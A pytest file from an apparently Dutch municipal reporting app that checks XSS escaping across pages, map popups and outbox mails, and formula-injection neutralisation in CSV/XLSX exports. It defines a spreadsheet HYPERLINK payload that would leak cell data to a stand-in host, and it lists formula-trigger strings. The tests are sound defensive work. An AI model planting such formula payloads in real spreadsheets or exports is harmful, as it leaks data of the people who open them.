"""Script payloads (issue 12): what a reporter, a staff member or an imported file puts in comes back escaped in
every page, in the map popups, in the outbox's HTML mails, and neutralised in the CSV and XLSX exports (a cell
starting with = + - @ is a formula to a spreadsheet program)."""

import csv
import io
import re
from datetime import timedelta

import sqlalchemy as sa
from openpyxl import load_workbook

from meldpunt.db_types import utcnow
from meldpunt.extensions import db
from meldpunt.outbox.models import OutboxMessage
from meldpunt.profiles import LOCAL_TZ
from meldpunt.reports.models import Report
from tests.web.fuzzing import IMG, SCRIPT, assert_no_markup_from
from tests.web.test_report_form import Reporter

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"Klik hier")'


def _body(response) -> str:
    assert response.status_code == 200, response.status_code
    return response.get_data(as_text=True)


def _send_payload_report(client) -> tuple[Report, str]:
    reporter = Reporter(client, "overlast", "vernieling")
    two_days_ago = (utcnow() - timedelta(days=2)).astimezone(LOCAL_TZ)  # earlier: routed to TNH at any hour
    fields = dict(description=f"Kapotte ruit {SCRIPT}", location_description=IMG, when="eerder",
                  when_date=two_days_ago.strftime("%Y-%m-%d"), when_time="21:30", email="melder@example.org",
                  email_consent="y")  # fmt: skip
    review = reporter.post(**fields)
    assert_no_markup_from(_body(review))
    sent = reporter.send(**fields)
    assert sent.status_code == 303
    confirmation = _body(client.get(sent.headers["Location"]))
    assert_no_markup_from(confirmation)
    tracking = re.search(r'id="tracking-link">([^<]+)<', confirmation).group(1).replace("http://localhost", "")
    db.session.expire_all()
    return db.session.scalar(sa.select(Report).order_by(Report.id.desc())), tracking


def test_a_script_in_a_report_is_escaped_for_everyone_who_sees_it(client, staff, login):
    report, tracking = _send_payload_report(client)
    assert SCRIPT in report.description  # stored as typed: escaping is the page's job
    assert_no_markup_from(_body(client.get(tracking)))
    for role, pages in {
        "tnh": [f"/medewerkers/meldingen/{report.id}", f"/medewerkers/wachtrij/{report.queue.code}"],
        "boa": ["/veld/", f"/veld/meldingen/{report.id}"],
    }.items():
        viewer = client.application.test_client()
        login(viewer, staff[role])
        for page in pages:
            body = _body(viewer.get(page))
            if page.endswith(f"/meldingen/{report.id}"):
                assert "Kapotte ruit" in body, page  # the text is shown, escaped
            assert_no_markup_from(body)
        boa_list = viewer.get("/veld/lijst", headers={"X-Position": "52.7858,6.8975"})
        assert_no_markup_from(boa_list.get_data(as_text=True))
    for mail in db.session.scalars(sa.select(OutboxMessage)):
        assert_no_markup_from(mail.body_html or "")


def test_a_script_in_a_closing_message_is_escaped_in_the_mail_and_on_the_tracking_page(client, staff, login):
    report, tracking = _send_payload_report(client)
    login(client, staff["tnh"])
    client.post(f"/medewerkers/meldingen/{report.id}/take", data={"version": report.version})
    db.session.expire_all()
    closed = client.post(f"/medewerkers/meldingen/{report.id}/close",
                         data={"version": db.session.get(Report, report.id).version, "outcome": "opgelost",
                               "message": f"Hersteld. {SCRIPT}"})  # fmt: skip
    assert closed.status_code == 302, closed.get_data(as_text=True)[:3000]
    mails = list(db.session.scalars(sa.select(OutboxMessage).order_by(OutboxMessage.id)))
    closing = mails[-1]
    assert "Hersteld." in closing.body_html and "&lt;script&gt;" in closing.body_html
    assert_no_markup_from(closing.body_html)
    page = _body(client.get(tracking))
    assert "Hersteld." in page
    assert_no_markup_from(page)


def _report_in_formula_area(client):
    report, _tracking = _send_payload_report(client)
    assert report.area is not None, "the test report lies in an area of the seeded profile"
    report.area.name = FORMULA
    db.session.commit()


def test_exports_neutralise_cells_a_spreadsheet_would_run(client, staff, login):
    _report_in_formula_area(client)
    login(client, staff["oov"])

    exported = client.get("/analyse/export.csv")
    rows = list(csv.DictReader(io.StringIO(exported.get_data().decode("utf-8-sig"))))
    [row] = [r for r in rows if "HYPERLINK" in r["gebied"]]
    assert row["gebied"] == "'" + FORMULA  # shown as text, as typed, never run

    workbook = load_workbook(io.BytesIO(client.get("/analyse/export.xlsx").get_data()))
    cells = [c for r in workbook.active.iter_rows() for c in r if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value == FORMULA for c in cells)


def test_the_spreadsheet_guard_leaves_numbers_and_plain_text_alone():
    from meldpunt.analysis.exports import csv_cell

    assert csv_cell("Emmen-Centrum") == "Emmen-Centrum"
    assert csv_cell(-3.5) == -3.5 and csv_cell(12) == 12
    for dangerous in ("=1+1", "+31 6 1234", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(dangerous) == "'" + dangerous


def test_the_monthly_summary_keeps_a_category_name_as_text(client, staff, login):
    report, _tracking = _send_payload_report(client)
    report.category.names = {**report.category.names, "nl": FORMULA}  # categories are data a beheerder changes
    db.session.commit()
    login(client, staff["oov"])
    month = report.created_at.astimezone(LOCAL_TZ).strftime("%Y-%m")
    workbook = load_workbook(io.BytesIO(client.get(f"/analyse/maandoverzicht.xlsx?maand={month}").get_data()))
    cells = [c for ws in workbook for r in ws.iter_rows() for c in r if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)
